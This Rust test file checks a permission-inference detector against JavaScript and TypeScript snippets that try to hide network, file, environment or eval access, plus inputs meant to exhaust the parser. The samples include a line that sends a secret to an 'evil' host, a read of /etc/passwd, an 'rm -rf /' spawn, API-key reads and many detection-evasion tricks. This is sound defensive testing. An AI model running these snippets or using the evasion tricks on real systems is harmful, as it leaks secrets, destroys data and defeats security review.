//! Adversarial inference: each case tries to hide a network, file, environment or code-running
//! access from the detector. None may come out minimal or pure, and each must need a human.
//! Plus inputs built to exhaust the analyser (deep nesting, huge files): refused, never a crash.

use brainloop::infer::{infer, infer_isolated, Lang, McpPermissions};
use brainloop::permset::PermissionSet;

fn check(name: &str, code: &str, lang: Lang, want: PermissionSet, pattern: &str) {
    let r = infer(code, lang, &McpPermissions::defaults());
    assert!(r.error.is_none(), "{name}: {:?}", r.error);
    assert_eq!(r.permission_set, want, "{name}: {:?}", r.detected_patterns);
    assert!(
        r.detected_patterns.iter().any(|p| p == pattern),
        "{name}: want {pattern} in {:?}",
        r.detected_patterns
    );
    assert!(!r.pure, "{name}");
    assert!(r.requires_validation, "{name}: must ask a human\n{r:#?}");
}

use PermissionSet::*;

#[test]
fn hidden_network_access() {
    for (name, code, set, pattern) in [
        (
            "object property",
            "const o = { f: fetch };\nawait o.f(\"https://x\");",
            NetworkApi,
            "fetch",
        ),
        (
            "array destructuring",
            "const [f] = [fetch];\nawait f(\"https://x\");",
            NetworkApi,
            "fetch",
        ),
        (
            "destructuring assignment",
            "let f;\n({ fetch: f } = globalThis);\nawait f(\"x\");",
            McpStandard,
            "globalThis",
        ),
        (
            "escaped identifier",
            "await \\u0066etch(\"https://x\");",
            NetworkApi,
            "fetch",
        ),
        (
            "escaped string key",
            "await globalThis[\"\\x66etch\"](\"https://x\");",
            NetworkApi,
            "fetch",
        ),
        (
            "comment in call",
            "await fetch/* hi */(\"https://x\");",
            NetworkApi,
            "fetch",
        ),
        (
            "tagged template",
            "await fetch`https://x`;",
            NetworkApi,
            "fetch",
        ),
        (
            "optional call",
            "await fetch?.(\"https://x\");",
            NetworkApi,
            "fetch",
        ),
        (
            "joined key",
            "await globalThis[[\"fe\", \"tch\"].join(\"\")](\"x\");",
            McpStandard,
            "globalThis[dynamic]",
        ),
        (
            "Reflect.apply",
            "await Reflect.apply(fetch, null, [\"x\"]);",
            NetworkApi,
            "fetch",
        ),
        (
            "Proxy",
            "const p = new Proxy({}, { get: () => fetch });\nawait p.anything(\"x\");",
            NetworkApi,
            "fetch",
        ),
        (
            "generator",
            "function* g() { yield fetch; }\nawait g().next().value(\"x\");",
            NetworkApi,
            "fetch",
        ),
        (
            "setInterval with a capability",
            "setInterval(fetch, 1000, \"https://x\");",
            McpStandard,
            "fetch",
        ),
        (
            "queueMicrotask",
            "queueMicrotask(() => fetch(\"x\"));",
            NetworkApi,
            "fetch",
        ),
        (
            "default parameter",
            "function f(x = fetch(\"x\")) { return x; }\nf();",
            NetworkApi,
            "fetch",
        ),
        (
            "class static block",
            "class A { static { fetch(\"x\"); } }",
            NetworkApi,
            "fetch",
        ),
        (
            "shadowing name is still flagged",
            "const fetch = (u) => u;\nfetch(\"x\");",
            NetworkApi,
            "fetch",
        ),
        (
            "export default",
            "export default fetch;",
            NetworkApi,
            "fetch",
        ),
        (
            "alias through window/self",
            "const w = window;\nconst s = w.self;\nawait s.fetch(\"x\");",
            NetworkApi,
            "fetch",
        ),
        (
            "WebSocket via globalThis",
            "const ws = new globalThis.WebSocket(\"wss://x\");",
            NetworkApi,
            "WebSocket",
        ),
        (
            "XMLHttpRequest",
            "const x = new XMLHttpRequest();\nx.open(\"GET\", \"u\");",
            NetworkApi,
            "XMLHttpRequest",
        ),
        (
            "navigator.sendBeacon",
            "navigator.sendBeacon(\"https://x\", \"d\");",
            McpStandard,
            "navigator",
        ),
        (
            "location assignment",
            "location.href = \"https://evil?\" + secret;",
            McpStandard,
            "assign:location",
        ),
        (
            "postMessage",
            "postMessage(secret);",
            McpStandard,
            "postMessage",
        ),
        (
            "bound then stored",
            "const f = fetch.bind(null);\nconst r = [\"u\"].map(f);",
            NetworkApi,
            "fetch",
        ),
    ] {
        check(name, code, Lang::Js, set, pattern);
    }
}

#[test]
fn hidden_file_env_and_process_access() {
    for (name, code, set, pattern) in [
        (
            "Deno destructured",
            "const { readTextFile } = Deno;\nconst t = await readTextFile(\"/etc/passwd\");",
            Readonly,
            "Deno.readTextFile",
        ),
        (
            "Deno computed",
            "await Deno[\"write\" + \"TextFile\"](\"x\", \"y\");",
            Filesystem,
            "Deno.writeTextFile",
        ),
        (
            "Deno via globalThis alias",
            "const g = globalThis;\nconst D = g.Deno;\nawait D.remove(\"x\");",
            Filesystem,
            "Deno.remove",
        ),
        (
            "Deno dynamic member",
            "const m = pick();\nawait Deno[m](\"x\");",
            McpStandard,
            "Deno[dynamic]",
        ),
        ("Deno passed away", "helper(Deno);", McpStandard, "Deno"),
        (
            "process computed",
            "const k = process[\"env\"][\"HOME\"];",
            McpStandard,
            "process.env",
        ),
        (
            "process via globalThis key",
            "const p = globalThis[\"pro\" + \"cess\"];\nconst h = p.env.HOME;",
            McpStandard,
            "process.env",
        ),
        (
            "env aliased",
            "const e = process.env;\nconst k = e.API_KEY;",
            McpStandard,
            "process.env",
        ),
        (
            "env destructured from globalThis.process",
            "const { env: { API_KEY } } = globalThis.process;",
            McpStandard,
            "process.env",
        ),
        (
            "Deno.env spread",
            "const all = { ...Deno.env.toObject() };",
            McpStandard,
            "Deno.env",
        ),
        (
            "process escape",
            "inspect(process);",
            McpStandard,
            "process",
        ),
        (
            "process.binding",
            "process.binding(\"spawn_sync\");",
            McpStandard,
            "process.binding",
        ),
        (
            "Deno.Command via alias",
            "const C = Deno.Command;\nnew C(\"rm\", { args: [\"-rf\", \"/\"] }).spawn();",
            McpStandard,
            "Deno.Command",
        ),
        ("Bun", "await Bun.write(\"x\", \"y\");", McpStandard, "Bun"),
        (
            "mcp namespace aliased",
            "const tools = mcp;\nawait tools.fs.write({ path: \"x\" });",
            Filesystem,
            "mcp.fs.write",
        ),
        (
            "mcp nested destructuring",
            "const { fs: { write } } = mcp;\nawait write({ path: \"x\" });",
            Filesystem,
            "mcp.fs.write",
        ),
        (
            "mcp computed optional",
            "await mcp?.[\"f\" + \"s\"]?.write?.({ path: \"x\" });",
            Filesystem,
            "mcp.fs.write",
        ),
        (
            "mcp dispatcher",
            "const call = (t, o, a) => mcp[t][o](a);\nawait call(\"fs\", \"write\", {});",
            McpStandard,
            "mcp[dynamic]",
        ),
        ("mcp passed away", "run(mcp.fs);", Filesystem, "mcp.fs"),
        ("mcp whole", "run(mcp);", McpStandard, "mcp"),
    ] {
        check(name, code, Lang::Js, set, pattern);
    }
}

#[test]
fn hidden_code_execution() {
    for (name, code, pattern) in [
        ("eval alias", "const e = eval;\ne(\"fetch(1)\");", "eval"),
        (
            "eval via window key",
            "window[\"ev\" + \"al\"](\"1\");",
            "eval",
        ),
        ("indirect eval", "(0, eval)(\"1\");", "eval"),
        ("optional eval", "eval?.(\"1\");", "eval"),
        ("eval.call", "globalThis.eval.call(null, \"1\");", "eval"),
        (
            "Function.prototype.constructor",
            "Function.prototype.constructor(\"return 1\")();",
            "Function",
        ),
        (
            "async function constructor",
            "(async () => {}).constructor(\"return fetch(1)\")();",
            "constructor",
        ),
        (
            "this.constructor.constructor",
            "class A { m() { return this.constructor.constructor(\"x\")(); } }",
            "constructor",
        ),
        (
            "class extends Function",
            "new (class extends Function {})(\"return 1\")();",
            "Function",
        ),
        (
            "__proto__",
            "const P = ({}).__proto__;\nP.x = 1;",
            "__proto__",
        ),
        (
            "dynamic import",
            "const m = await import(\"data:text/javascript,export default 1\");",
            "import()",
        ),
        ("static re-export", "export * from \"node:fs\";", "import"),
        (
            "require alias",
            "const r = require;\nconst fs = r(\"fs\");",
            "require",
        ),
        (
            "WebAssembly",
            "await WebAssembly.instantiate(bytes);",
            "WebAssembly",
        ),
        ("Worker", "new Worker(\"data:,fetch(1)\");", "Worker"),
        (
            "setTimeout string via alias",
            "const t = setTimeout;\nt(\"fetch(1)\", 0);",
            "setTimeout",
        ),
        (
            "Object.assign onto a prototype",
            "Object.assign(Array.prototype, { map() { return 1; } });",
            "builtin-mutation",
        ),
        (
            "Reflect.set on a built-in",
            "Reflect.set(Math, \"round\", () => 1);",
            "builtin-mutation",
        ),
        (
            "delete from a built-in",
            "delete JSON.stringify;",
            "builtin-mutation",
        ),
        (
            "dynamic dispatch",
            "const k = atob(\"Y29uc3RydWN0b3I=\");\n[][k][k](\"return 1\")();",
            "computed-call",
        ),
    ] {
        check(name, code, Lang::Js, McpStandard, pattern);
    }
}

#[test]
fn typescript_hiding_places() {
    for (name, code, set, pattern) in [
        (
            "as any",
            "await (fetch as any)(\"x\");",
            NetworkApi,
            "fetch",
        ),
        (
            "non-null",
            "await mcp.fs!.write!({});",
            Filesystem,
            "mcp.fs.write",
        ),
        (
            "satisfies",
            "const f = fetch satisfies typeof fetch;\nawait f(\"x\");",
            NetworkApi,
            "fetch",
        ),
        (
            "generic instantiation",
            "const f = fetch<string>;\nawait f(\"x\");",
            NetworkApi,
            "fetch",
        ),
        (
            "enum initialiser",
            "enum E { A = fetch(\"x\") as any }",
            NetworkApi,
            "fetch",
        ),
        (
            "namespace",
            "namespace N { export const r = fetch(\"x\"); }",
            NetworkApi,
            "fetch",
        ),
        (
            "decorator",
            "function d(x: any) { fetch(\"x\"); return x; }\n@d class A {}",
            NetworkApi,
            "fetch",
        ),
        (
            "parameter property default",
            "class A { constructor(private f = fetch) {} }",
            NetworkApi,
            "fetch",
        ),
    ] {
        check(name, code, Lang::Ts, set, pattern);
    }
}

#[test]
fn inputs_built_to_exhaust_the_analyser_are_refused_not_crashed() {
    let mapping = McpPermissions::defaults();
    for (name, code) in [
        ("parens", "(".repeat(200_000) + "1" + &")".repeat(200_000)),
        ("unary", "!".repeat(200_000) + "x"),
        ("unary lines", "-\n".repeat(100_000) + "1"),
        ("assignment chain", "a\n= ".repeat(100_000) + "1"),
        ("if chain", "if (a)\n".repeat(100_000) + "x;"),
        ("member chain", "a".to_string() + &".b".repeat(200_000)),
        ("arrow chain", "x => ".repeat(100_000) + "1"),
        (
            "template nesting",
            "`${".repeat(100_000) + &"}`".repeat(100_000),
        ),
        (
            "instanceof lines",
            "a".to_string() + &"\ninstanceof b".repeat(50_000),
        ),
        ("in lines", "a".to_string() + &"\nin b".repeat(50_000)),
        ("array nesting", "[".repeat(100_000) + &"]".repeat(100_000)),
        ("too big", "const a = 1;\n".repeat(100_000)),
    ] {
        let r = infer_isolated(code, Lang::Js, mapping.clone()).unwrap();
        assert!(r.error.is_some(), "{name}: expected a refusal");
        assert!(r.requires_validation && !r.pure, "{name}");
        assert_eq!(r.confidence, 0.0, "{name}");
    }
    // A long but flat file is fine.
    let flat = "const x = [1, 2, 3].map((n) => n + 1);\n".repeat(5_000);
    let r = infer_isolated(flat, Lang::Js, mapping).unwrap();
    assert!(r.error.is_none(), "{:?}", r.error);
    assert!(r.pure);
}
